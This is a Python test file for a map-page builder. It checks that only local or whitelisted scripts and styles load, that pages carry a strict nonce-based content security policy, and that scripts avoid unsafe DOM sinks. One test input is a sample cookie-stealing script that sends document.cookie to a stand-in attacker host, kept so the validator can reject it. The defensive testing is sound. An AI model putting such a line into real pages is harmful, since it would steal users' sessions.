"""Scripts and styles come from the file or from our server; an address nobody knows stops the map."""

import re
from pathlib import Path

import pytest

from maps import STATIC, Assets, MapError, MissingAssetError, UnknownAssetError
from maps.assets import KNOWN, own_assets, read_asset, refuse_foreign
from tests.maps import sample

OURS = ("map.css", "labels.js", "map.js", "tickets.js", "round.js", "hotspots.js")


def test_an_unknown_address_stops_the_map() -> None:
    head = '<script src="https://cdn.example/new-plugin@1.2/plugin.js"></script>'
    with pytest.raises(UnknownAssetError, match=r"cdn\.example") as caught:
        own_assets(head)
    assert isinstance(caught.value, MapError)


@pytest.mark.parametrize(
    "head",
    [
        '<link rel="stylesheet" href="https://cdn.jsdelivr.net/npm/leaflet@1.9.4/dist/leaflet.css"/>',
        "<LINK href='//cdn.example/x.css' rel=stylesheet>",
        "<img src=http://tiles.example/1.png>",
        '<style>@import url("https://fonts.example/css");</style>',
        "<script>fetch('https://evil.example/?' + document.cookie)</script>",
    ],
)
def test_every_way_to_ask_another_machine_is_noticed(head: str) -> None:
    with pytest.raises(UnknownAssetError):
        own_assets(head)


def test_a_known_address_becomes_our_file_and_an_unused_one_nothing() -> None:
    head = "".join(f'<script src="{url}"></script>' for url in KNOWN if url.endswith(".js"))
    files, rest = own_assets(f"<style>#map {{ top: 0 }}</style>{head}")
    assert files == ["vendor/leaflet.js", "vendor/leaflet.markercluster.js"]
    assert rest == "<style>#map { top: 0 }</style>"


def test_a_tile_server_in_the_script_is_refused() -> None:
    with pytest.raises(UnknownAssetError, match=re.escape("tile.example")):
        refuse_foreign('L.tileLayer("https://tile.example/{z}/{x}/{y}.png")')


def test_a_missing_script_says_what_to_run() -> None:
    with pytest.raises(MissingAssetError, match="make assets"):
        Assets.inline().tags(["vendor/not-there.js"], "")


def test_our_own_scripts_and_style_are_there_and_name_no_other_machine() -> None:
    for file in OURS:
        text = (STATIC / file).read_text(encoding="utf-8")
        assert not re.search(r"innerHTML|insertAdjacentHTML|document\.write|\beval\b|new Function", text), (
            file
        )
        assert set(re.findall(r"https?://[\w./]+", text)) <= {"http://www.w3.org/2000/svg"}, file


def test_an_inlined_style_keeps_only_the_pictures_it_carries_itself() -> None:
    style = read_asset("map.css") + read_asset("vendor/leaflet.css")
    addresses = re.findall(r"url\(\s*[\"']?([^\"')]{4})", style)
    assert addresses
    assert set(addresses) <= {"data", "#def"}


def test_a_script_cannot_end_its_own_element() -> None:
    for file in (*OURS, "vendor/leaflet.js", "vendor/leaflet.markercluster.js"):
        text = read_asset(file)
        assert "</script" not in text
        assert "<!--" not in text
        assert "sourceMappingURL" not in text


@pytest.mark.parametrize("draw", [sample.ticket_page, sample.round_page, sample.hotspot_page])
def test_a_file_carries_everything_and_its_policy_allows_nothing_else(draw: object) -> None:
    assert callable(draw)
    html = draw()
    assert not re.search(r"<(?:script|link|img|iframe)[^>]+(?:src|href)=", html)
    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', html)
    assert policy
    assert "default-src &#39;none&#39;" in policy.group(1)
    assert "unsafe" not in policy.group(1)
    nonce = re.search(r"nonce-(\w+)", policy.group(1))
    assert nonce
    opened = re.findall(r"<(?:script|style)\b[^>]*>", html)
    assert all(f'nonce="{nonce.group(1)}"' in tag for tag in opened)
    assert not re.search(
        r"\son\w+\s*=\s*[\"']|\sstyle\s*=", re.sub(r"<(script|style)\b.*?</\1>", "", html, flags=re.DOTALL)
    )


def test_a_linked_page_loads_from_our_server_and_carries_the_nonce() -> None:
    html = sample.ticket_page(assets=Assets.linked("/static/maps/", "n0nce"))
    loaded = re.findall(r'<script src="([^"]+)" nonce="n0nce">', html)
    loaded += re.findall(r'<link rel="stylesheet" href="([^"]+)" nonce="n0nce">', html)
    assert len(loaded) == 8
    for address in loaded:
        assert Path(STATIC, address.removeprefix("/static/maps/")).exists()
    assert "Content-Security-Policy" not in html


def test_drawing_twice_gives_the_same_bytes() -> None:
    assert sample.ticket_page() == sample.ticket_page()
